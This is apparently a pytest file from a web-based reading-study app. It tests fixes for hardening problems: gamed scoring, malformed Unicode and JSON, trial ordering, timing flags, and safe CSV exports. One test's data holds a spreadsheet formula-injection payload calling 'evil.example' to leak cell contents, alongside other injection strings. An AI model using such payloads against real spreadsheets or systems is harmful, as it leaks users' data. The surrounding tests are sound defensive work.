"""Holes found when the study was attacked (issue 15): scoring, bad input, timing and order.

Each test here failed before the fix it names. The API is driven as the page drives it: a
trial is served (``/api/serve``) when it starts, then answered (``/api/trials``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import threading

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from tests.experiment.conftest import ADMIN_SECRET
from tracktale.app.cli import main
from tracktale.experiment.export.files import export_study

EVERY_CONTAINER = "box bag basket drawer"


def _started(participant):
    person = participant()
    person.start()
    person.consent()
    return person


def _stored(storage):
    return {trial.trial_index: trial for trial in storage.trials()}


# scoring that cannot be gamed ------------------------------------------------------------


def test_an_answer_naming_every_container_is_incorrect_flagged_and_judged_both_ways(
    participant, storage
):
    person = _started(participant)
    explicit = person.first("explicit", role="main")
    person.answer_before(explicit["index"])
    body = {**person.trial_body(explicit["index"]), "response": EVERY_CONTAINER}
    assert person.post("/api/trials", body).status_code == 201
    stored = _stored(storage)[explicit["index"]]
    assert stored.response == EVERY_CONTAINER
    assert stored.correct is False  # the study's rule: one location only
    assert stored.correct_paper_rule is True  # the paper's "contains the target word"
    assert "several_answers" in stored.flags.split(";")


def test_practice_feedback_is_the_servers_judgement(participant):
    person = _started(participant)
    practice = person.first("explicit", role="practice")
    person.answer_before(practice["index"])
    body = {**person.trial_body(practice["index"]), "response": EVERY_CONTAINER}
    reply = person.post("/api/trials", body)
    assert reply.status_code == 201
    feedback = reply.get_json()["feedback"]
    item = person.stimuli.get(person.served[practice["index"]]["item_id"])
    assert feedback == {"correct": False, "timed_out": False, "answer": item.answer}
    # The served content carries no answer: the verdict can only come from the server.
    assert "feedback" not in person.served[practice["index"]]
    choice = person.first("implicit", role="practice")
    person.answer_before(choice["index"])
    reply = person.answer(choice["index"])
    assert reply.get_json()["feedback"]["correct"] is True
    main_trial = person.first("implicit", role="main")
    person.answer_before(main_trial["index"])
    assert "feedback" not in person.answer(main_trial["index"]).get_json()


def test_whitespace_only_answers_are_refused(participant, storage):
    person = _started(participant)
    explicit = person.first("explicit")
    person.answer_before(explicit["index"])
    for blank in ("   ", "\t\n", "\u00a0\u2003"):
        body = {**person.trial_body(explicit["index"]), "response": blank}
        reply = person.post("/api/trials", body)
        assert reply.status_code == 422, blank
        assert "blank" in reply.get_json()["error"]
    assert explicit["index"] not in _stored(storage)


# input that breaks things ----------------------------------------------------------------


def _raw_post(person, path, text):
    return person.client.post(
        path,
        data=text,
        content_type="application/json",
        headers={"X-Session-Token": person.token},
    )


def test_lone_surrogates_are_refused_at_the_boundary(participant, storage):
    person = _started(participant)
    survey = '{"age": 30, "gender": "female", "native_language": "\\udfff", ' + (
        '"attentive": true, "no_ai_assistance": true}'
    )
    reply = _raw_post(person, "/api/survey", survey)
    assert reply.status_code == 422 and "Unicode" in reply.get_json()["error"]
    explicit = person.first("explicit")
    person.answer_before(explicit["index"])
    body = json.dumps({**person.trial_body(explicit["index"]), "response": "ok"})
    reply = _raw_post(person, "/api/trials", body.replace('"ok"', '"x\\ud800y"'))
    assert reply.status_code == 422
    assert storage.survey(person.state["participant_id"]) == {}
    start = person.client.post(
        "/api/session",
        data='{"prolific_pid": "A\\udfff"}',
        content_type="application/json",
    )
    assert start.status_code == 422


def test_a_deeply_nested_body_is_a_400_not_a_500(client):
    deep = "[" * 30_000 + "]" * 30_000
    reply = client.post("/api/session", data=deep, content_type="application/json")
    assert reply.status_code == 400 and reply.is_json
    deep_object = '{"a":' * 10_000 + "1" + "}" * 10_000  # under the 64 KiB body limit
    reply = client.post("/api/session", data=deep_object, content_type="application/json")
    assert reply.status_code == 400


def test_bad_saves_sent_among_honest_ones_fail_only_themselves(app, human_set):
    from tests.experiment.conftest import Participant

    def started():
        person = Participant(app.test_client(), human_set)
        person.start()
        person.consent()
        return person

    honest = [started() for _ in range(10)]
    attackers = [started() for _ in range(8)]
    bodies = {id(person): [person.trial_body(index) for index in range(5)] for person in honest}
    for attacker in attackers:
        attacker.shown(0)
    barrier = threading.Barrier(len(honest) + len(attackers))
    statuses: list[int] = []
    refused: list[int] = []

    def save(person):
        barrier.wait()
        for body in bodies[id(person)]:
            statuses.append(person.post("/api/trials", body).status_code)

    def attack(person):
        body = json.dumps({**person.trial_body(0), "response": "ok"})
        barrier.wait()
        for _ in range(3):
            reply = _raw_post(person, "/api/trials", body.replace('"ok"', '"\\udfff"'))
            refused.append(reply.status_code)

    threads = [threading.Thread(target=save, args=(person,)) for person in honest]
    threads += [threading.Thread(target=attack, args=(person,)) for person in attackers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert statuses == [201] * 50
    assert refused == [422] * 24


@pytest.fixture
def poisoned(participant, storage):
    """A completed participant whose stored answers hold what the API would refuse today."""
    person = participant()
    assert person.run_all().status_code == 200
    pid = person.state["participant_id"]
    with storage.engine.begin() as connection:
        connection.execute(
            sa.text(
                "UPDATE survey_answers SET answer_json = :bad "
                "WHERE participant_id = :pid AND question = 'native_language'"
            ),
            {"bad": json.dumps("Eng\udfffish"), "pid": pid},
        )
        connection.execute(
            sa.text(
                "UPDATE survey_answers SET answer_json = 'not json' "
                "WHERE participant_id = :pid AND question = 'gender'"
            ),
            {"pid": pid},
        )
        connection.execute(
            sa.text(
                "UPDATE survey_answers SET answer_json = '\"forty\"' "
                "WHERE participant_id = :pid AND question = 'age'"
            ),
            {"pid": pid},
        )
        # A trial row edited by hand: text in a number column, bytes in a text column.
        connection.execute(
            sa.text(
                "UPDATE trials SET reading_time_ms = 'slow', flags = X'00ff' "
                "WHERE participant_id = :pid AND trial_index = 3"
            ),
            {"pid": pid},
        )
    return person


def test_exports_survive_whatever_is_in_the_database(poisoned, storage, client, tmp_path):
    written = export_study(storage, tmp_path / "out", salt="pepper")
    assert len(written) == 6
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "participants.csv").read_text())))
    assert rows[0]["native_language"] == "Eng\ufffdish"
    assert rows[0]["age"] == "forty"
    parquet = pq.read_table(tmp_path / "out" / "participants.parquet").to_pylist()
    assert parquet[0]["native_language"] == "Eng\ufffdish"
    headers = {"Authorization": f"Bearer {ADMIN_SECRET}"}
    trials = list(csv.DictReader(io.StringIO((tmp_path / "out" / "trials.csv").read_text())))
    assert trials[3]["reading_time_ms"] == "slow"
    for path in (
        "/admin/export/participants.csv",
        "/admin/export/participants.parquet",
        "/admin/export/trials.csv",
        "/admin/export/trials.parquet",
        "/admin/export/accuracy.csv",
    ):
        assert client.get(path, headers=headers).status_code == 200, path
    assert client.get("/admin/", headers=headers).status_code == 200


def test_the_export_command_survives_it_too(poisoned, study_config, tmp_path):
    study = tmp_path / "study.yaml"
    study.write_text(f"database: {study_config.database}\n")
    with pytest.raises(SystemExit) as exit_info:
        main(["experiment", "export", "--study", str(study), "--out", str(tmp_path / "x")])
    assert exit_info.value.code == 0


def test_free_text_is_kept_as_given_and_csv_exports_are_spreadsheet_safe(
    participant, storage, tmp_path
):
    person = _started(participant)
    nasty = {
        "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "plus": "+1+2",
        "at": "@SUM(A1)",
        "nul": "bo\x00x",
        "bidi": "box\u202ereversed",
        "lines": "box\r\n=1+1",
    }
    explicit = [t for t in person.state["trials"] if t["task"] == "explicit"][: len(nasty)]
    for (name, text), trial in zip(nasty.items(), explicit, strict=True):
        person.answer_before(trial["index"])
        body = {
            **person.trial_body(trial["index"], client_trial_id=f"{person.pid}-{name}"),
            "response": text,
        }
        assert person.post("/api/trials", body).status_code == 201, name
    by_id = {t.client_trial_id: t for t in storage.trials()}
    for name, text in nasty.items():
        assert by_id[f"{person.pid}-{name}"].response == text, name  # stored as given
    export_study(storage, tmp_path, salt="pepper")
    raw = (tmp_path / "trials.csv").read_bytes().decode("utf-8")  # CR kept
    assert "\x00" not in raw and "\u202e" not in raw
    cells = {row["client_trial_id"]: row["response"] for row in csv.DictReader(io.StringIO(raw))}
    for name in ("formula", "plus", "at"):
        assert cells[f"{person.pid}-{name}"] == "'" + nasty[name], name
    assert cells[f"{person.pid}-nul"] == "bo\\x00x"
    assert cells[f"{person.pid}-bidi"] == "box\\u202ereversed"
    assert cells[f"{person.pid}-lines"] == "box\r\n=1+1"  # quoted by RFC 4180, not a new row
    parquet = pq.read_table(tmp_path / "trials.parquet").to_pylist()
    exact = {row["client_trial_id"]: row["response"] for row in parquet}
    for name, text in nasty.items():
        assert exact[f"{person.pid}-{name}"] == text, name


# integrity of timing and order -----------------------------------------------------------


def test_the_session_hands_out_no_stories_probes_or_options(participant):
    person = participant()
    person.start()
    text = json.dumps(person.state)
    for item in person.stimuli:
        assert item.context not in text
        assert item.item_id not in text
    assert [t["index"] for t in person.state["trials"]] == list(range(50))
    assert set(person.state["trials"][0]) == {"index", "block", "task", "role"}


def test_a_trial_is_served_only_in_order_and_after_consent(participant):
    person = participant()
    person.start()
    assert person.serve(0).status_code == 409  # before consent
    person.consent()
    reply = person.serve(1)
    assert reply.status_code == 422 and "in order" in reply.get_json()["error"]
    shown = person.serve(0).get_json()["trial"]
    assert {"story", "probe", "item_id"} <= set(shown)
    assert person.serve(1).status_code == 200
    assert person.serve(3).status_code == 422


def test_an_answer_needs_its_trial_served_and_every_earlier_one_answered(participant, storage):
    person = _started(participant)
    person.shown(0)
    person.shown(1)
    person.shown(2)
    reply = person.answer(2)
    assert reply.status_code == 422 and "trial 0 is not answered" in reply.get_json()["error"]
    assert person.answer(0).status_code == 201
    reply = person.answer(2)
    assert reply.status_code == 422 and "trial 1 is not answered" in reply.get_json()["error"]
    assert person.answer(1).status_code == 201
    assert person.answer(2).status_code == 201
    # Another participant cannot answer a trial that was never served to them.
    other = _started(participant)
    forged = {**person.trial_body(0), "client_trial_id": "forged-trial-000"}
    reply = other.post("/api/trials", forged)
    assert reply.status_code == 422 and "not served" in reply.get_json()["error"]
    assert len(list(storage.trials())) == 3


def test_server_side_times_are_stored_beside_the_browsers_and_impossible_ones_flagged(
    participant, storage
):
    person = _started(participant)
    honest = person.trial_body(0)
    assert person.post("/api/trials", honest).status_code == 201
    fast = {**person.trial_body(1), "reading_time_ms": 30_000.0, "response_time_ms": 9_000.0}
    assert person.post("/api/trials", fast).status_code == 201  # flagged, not dropped
    over = {**person.trial_body(2), "reading_time_ms": 41_500.0}
    assert person.post("/api/trials", over).status_code == 201
    stored = _stored(storage)
    for trial in stored.values():
        served = dt.datetime.fromisoformat(trial.served_at)
        answered = dt.datetime.fromisoformat(trial.answered_at)
        assert served <= answered
        # Measured on the monotonic clock: the wall clock read beside it agrees to the ms.
        assert trial.server_elapsed_ms == pytest.approx(
            (answered - served).total_seconds() * 1000, abs=1.0
        )
    assert stored[0].flags == ""
    assert stored[1].flags.split(";") == ["faster_than_reported"]
    assert "times_over_limits" in stored[2].flags.split(";")
    assert stored[1].reading_time_ms == 30_000.0  # the browser's own figures are kept


def test_an_answer_arriving_after_the_limits_is_flagged(participant, storage, server_clock):
    person = _started(participant)
    person.shown(0)
    server_clock.advance(120)
    assert person.answer(0).status_code == 201
    (trial,) = storage.trials()
    assert trial.flags.split(";") == ["slower_than_reported", "later_than_limits"]
    assert trial.server_elapsed_ms > 110_000


def test_eighteen_trials_in_under_a_second_are_stored_and_flagged(participant, storage):
    person = _started(participant)
    for index in range(18):
        body = {**person.trial_body(index), "reading_time_ms": 9000.0, "response_time_ms": 3000.0}
        assert person.post("/api/trials", body).status_code == 201
    flagged = [t for t in storage.trials() if "faster_than_reported" in t.flags]
    assert len(flagged) == 18


def test_a_trial_served_twice_is_a_restart_counted_by_the_server(participant, storage):
    person = _started(participant)
    person.answer(0)
    person.shown(1)  # seen, then the participant opens the link in a private window
    private = participant(pid=person.pid, session_id=person.session_id)
    assert private.start().status_code == 200
    assert private.state["done"] == [0]
    served = private.serve(1)
    assert served.status_code == 200 and served.get_json()["restart"] is True
    body = {**private.trial_body(1), "restarts": 0}  # the browser's claim is not believed
    assert private.post("/api/trials", body).status_code == 201
    assert _stored(storage)[1].restarts == 1
    assert _stored(storage)[0].restarts == 0


def test_offline_answers_queued_while_later_trials_were_served_are_accepted(participant, storage):
    person = _started(participant)
    bodies = [person.trial_body(index) for index in range(4)]  # served, answers queued
    for body in bodies:
        assert person.post("/api/trials", body).status_code == 201
    assert sorted(_stored(storage)) == [0, 1, 2, 3]


def test_serving_far_ahead_of_the_answers_waits_for_them(participant):
    person = _started(participant)
    for index in range(5):
        assert person.serve(index).status_code == 200
    reply = person.serve(5)
    assert reply.status_code == 409 and reply.get_json()["waiting_for"] == [0, 1, 2, 3, 4]
    person.answer(0)
    assert person.serve(5).status_code == 200
